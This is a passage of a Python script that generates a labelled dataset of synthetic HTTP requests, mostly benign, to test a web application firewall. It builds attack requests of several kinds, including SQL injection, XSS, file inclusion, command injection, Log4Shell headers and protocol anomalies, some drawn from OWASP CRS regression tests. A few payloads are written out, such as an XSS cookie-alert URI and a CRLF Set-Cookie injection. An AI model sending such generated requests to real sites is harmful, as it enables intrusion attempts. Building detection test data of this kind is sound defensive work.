                    if "encoded_request" in block or "raw_request" in block or block.count("- input:") != 1:
                        continue
                    hdr = re.search(r"^(\s+)headers:\s*\n((?:\1\s+.*\n)+)", block, re.M)
                    if hdr:
                        names = re.findall(r"^\s+([A-Za-z0-9_-]+):", hdr.group(2), re.M)
                        if any(n.lower() not in STD_TEST_HEADERS for n in names):
                            continue  # payload (probably) in a header/cookie
                        ua = re.search(r"^\s+User-Agent:\s*(.*)$", hdr.group(2), re.M)
                        if ua and "OWASP CRS test agent" not in ua.group(1):
                            continue
                    ct = re.search(r"^\s+Content-Type:\s*(.*)$", block, re.M)
                    if ct:
                        ctv = parse_yaml_scalar(ct.group(1)) or ""
                        if not ctv.lower().startswith("application/x-www-form-urlencoded"):
                            continue
                    # Payloads in headers/cookies are skipped: only uri/data used.
                    m = re.search(r"^\s+data:\s*(.*)$", block, re.M)
                    if m:
                        val = parse_yaml_scalar(m.group(1))
                        if val and "=" in val and len(val) < 2000 and "\n" not in val:
                            samples.append(("data", val))
                        continue
                    m = re.search(r"^\s+uri:\s*(.*)$", block, re.M)
                    if m:
                        val = parse_yaml_scalar(m.group(1))
                        if val and "?" in val and len(val) < 2000 and \
                                not re.search(r"[\s\x00-\x1f\x7f]", val):
                            samples.append(("uri", val))
        if samples:
            out[kind] = samples
    return out


def crs_sample_request(r, kind, samples):
    where, val = r.choice(samples)
    if where == "uri":
        query = val.split("?", 1)[1]
        path = r.choice(["/search", "/products/list", "/news/", "/index.php"])
        return "GET", f"{path}?{query}", attack_headers(r), ""
    body = val
    return "POST", r.choice(["/contact/confirm", "/search", "/api/form"]), \
        with_body(attack_headers(r), "application/x-www-form-urlencoded", body), body


def attack(r, kind, crs):
    if kind in crs and r.random() < 0.4:
        m, u, h, b = crs_sample_request(r, kind, crs[kind])
        return kind, "crs-test", m, u, h, b
    sub = "own"
    if kind == "sqli":
        m, u, h, b = inject_param(r, r.choice(SQLI))
        if r.random() < 0.1:  # in a cookie
            m, u, b = "GET", "/mypage/", ""
            h = attack_headers(r, browserish=False) + [("Cookie", "session_id=" + quote(r.choice(SQLI), safe="' ="))]
            sub = "cookie"
    elif kind == "xss":
        m, u, h, b = inject_param(r, r.choice(XSS), params=("q", "name", "comment", "redirect", "msg"))
        if r.random() < 0.15:
            obj = {"product_id": product_id(r), "rating": 5, "comment": r.choice(XSS)}
            b = json.dumps(obj)
            m, u = "POST", "/api/v1/reviews"
            h = with_body(attack_headers(r), "application/json", b)
            sub = "json"
    elif kind == "lfi":
        if r.random() < 0.3:
            m, u, h, b = "GET", r.choice(LFI_PATHS), attack_headers(r, browserish=False), ""
            sub = "restricted-file"
        else:
            m, u, h, b = inject_param(r, r.choice(LFI), params=("file", "page", "template", "img", "download"))
            # some payloads are already percent-encoded: keep them raw sometimes
            if r.random() < 0.3:
                p = r.choice(LFI)
                u = f"/download?file={p}" if " " not in p else u
                m, b = "GET", ""
                h = attack_headers(r)
    elif kind == "rfi":
        m, u, h, b = inject_param(r, r.choice(RFI), params=tuple(RFI_PARAMS))
    elif kind == "rce":
        base = r.choice(["127.0.0.1", "example.jp", "test", "1"])
        m, u, h, b = inject_param(r, base + r.choice(RCE), params=("host", "ip", "cmd", "exec", "q", "file"))
    elif kind == "php":
        p = r.choice(PHP)
        if p.startswith("<?") and r.random() < 0.5:
            b = f"csrf_token={rand_alnum(r, 20)}&comment={quote(p, safe='')}"
            m, u = "POST", "/contact/confirm"
            h = with_body(attack_headers(r), "application/x-www-form-urlencoded", b)
        else:
            m, u, h, b = inject_param(r, p, params=("page", "file", "cmd", "code", "q"))
    elif kind == "log4shell":
        p = r.choice(LOG4J)
        where = r.random()
        if where < 0.6:
            hn = r.choice(LOG4J_HEADERS)
            h = attack_headers(r, browserish=False)
            if hn == "User-Agent":
                h = [(k, p if k == "User-Agent" else v) for k, v in h]
            else:
                h.append((hn, p))
            m, u, b = "GET", r.choice(["/", "/login", "/api/v1/products", "/search?q=test"]), ""
            sub = "header"
        else:
            m, u, h, b = inject_param(r, p, params=("q", "username", "id", "x"))
    elif kind == "scanner":
        ua = r.choice(SCANNER_UAS)
        m, u, b = "GET", r.choice(SCANNER_PATHS), ""
        h = [("Host", HOST), ("User-Agent", ua), ("Accept", "*/*")]
        if "sqlmap" in ua and r.random() < 0.5:
            u = "/search?q=" + quote(r.choice(SQLI), safe="")
        if "Nikto" in ua and r.random() < 0.5:
            u = r.choice(["/cgi-bin/printenv", "/index.php?=PHPB8B5F2A0-3C92-11d3-A3A9-4C7B08C10000",
                          "/?mod=<script>alert(document.cookie)</script>&op=browse"])
            if "<" in u:
                u = u.replace("<", "%3C").replace(">", "%3E")
    elif kind == "java":
        ct, b = r.choice(JAVA)
        m, u = "POST", r.choice(["/api/v1/import", "/invoker/JMXInvokerServlet", "/login", "/struts/upload.action"])
        h = with_body(attack_headers(r, browserish=False), ct, b)
    elif kind == "protocol":
        m, u, h, b, sub = protocol_anomaly(r)
    else:
        raise ValueError(kind)
    return kind, sub, m, u, h, b


def protocol_anomaly(r):
    x = r.randrange(11)
    h = attack_headers(r, browserish=False)
    if x == 0:
        return "GET", "/", [(k, v) for k, v in h if k != "Host"], "", "no-host"
    if x == 1:
        return "GET", "/", [("Host", "203.0.113.10") if k == "Host" else (k, v) for k, v in h], "", "host-ip"
    if x == 2:
        return r.choice(["TRACE", "TRACK", "PROPFIND", "CONNECT", "DEBUG"]), "/", h, "", "method"
    if x == 3:
        return "GET", "/index.html%00.jpg", h, "", "null-byte"
    if x == 4:
        return "GET", "/search?q=%ZZ%G1", h, "", "bad-urlencoding"
    if x == 5:
        h = h + [("Content-Length", "abc")]
        return "GET", "/", h, "", "bad-content-length"
    if x == 6:
        b = "a=1"
        return "POST", "/api/v1/cart/items", with_body(h, "application/x-foo-bar", b), b, "bad-content-type"
    if x == 7:
        h = h + [("Range", "bytes=0-,1-,2-,3-,4-,5-,6-,7-,8-,9-,10-,11-,12-,13-,14-,15-,16-")]
        return "GET", "/images/products/12345_1.jpg", h, "", "range"
    if x == 8:
        return "GET", "/search?q=a%0d%0aSet-Cookie:%20admin=1", h, "", "crlf-injection"
    if x == 9:
        b = "a=1&b=2"
        h = with_body(h, "application/x-www-form-urlencoded", b) + [("Transfer-Encoding", "chunked")]
        return "POST", "/login", h, b, "te-and-cl"
    b = "{\"a\":1"
    return "POST", "/api/v1/cart/items", with_body(h, "application/json", b), b, "bad-json"


def main():
    here = os.path.dirname(os.path.abspath(__file__))
    default_tests = os.path.normpath(os.path.join(
        here, "..", "..", "shared", "data", "crs", "v4.28.0", "tests", "regression", "tests"))
    ap = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    ap.add_argument("-n", "--count", type=int, default=12000)
    ap.add_argument("--attack-share", type=float, default=0.10)
    ap.add_argument("--seed", type=int, default=20240601)
    ap.add_argument("--crs-tests", default=default_tests,
                    help="CRS regression tests dir ('' to disable) [%(default)s]")
    ap.add_argument("-o", "--out", default="-")
    args = ap.parse_args()

    r = random.Random(args.seed)
    crs = load_crs_samples(args.crs_tests)
    if crs:
        print(f"CRS test payloads: {sum(len(v) for v in crs.values())} from {args.crs_tests}",
              file=sys.stderr)
    else:
        print(f"note: no CRS tests at {args.crs_tests!r}; built-in payloads only", file=sys.stderr)

    n_attack = int(round(args.count * args.attack_share))
    plan = ["attack"] * n_attack + ["benign"] * (args.count - n_attack)
    r.shuffle(plan)

    out = sys.stdout if args.out == "-" else open(args.out, "w", encoding="utf-8")
    kinds, subs = Counter(), Counter()
    visitors = []
    for i, p in enumerate(plan):
        if p == "benign":
            kind, sub, m, u, h, b = benign(r, visitors)
        else:
            kind = r.choices(ATTACK_KINDS, weights=ATTACK_WEIGHTS)[0]
            kind, sub, m, u, h, b = attack(r, kind, crs)
        kinds[kind] += 1
        subs[(kind, sub)] += 1
        rec = {"i": i, "kind": kind, "sub": sub, "method": m, "uri": u, "version": "HTTP/1.1",
               "headers": [[k, v] for k, v in h], "body": b}
        out.write(json.dumps(rec, ensure_ascii=False, separators=(",", ":")) + "\n")
    if out is not sys.stdout:
        out.close()

    print(f"requests: {args.count} (seed {args.seed})", file=sys.stderr)
    for k, c in sorted(kinds.items(), key=lambda kv: (-kv[1], kv[0])):
        print(f"  {k:10s} {c:6d}  {100.0 * c / args.count:5.1f}%", file=sys.stderr)
    print("by kind/sub:", file=sys.stderr)
    for (k, s), c in sorted(subs.items()):
        print(f"  {k}/{s}: {c}", file=sys.stderr)


if __name__ == "__main__":
    main()
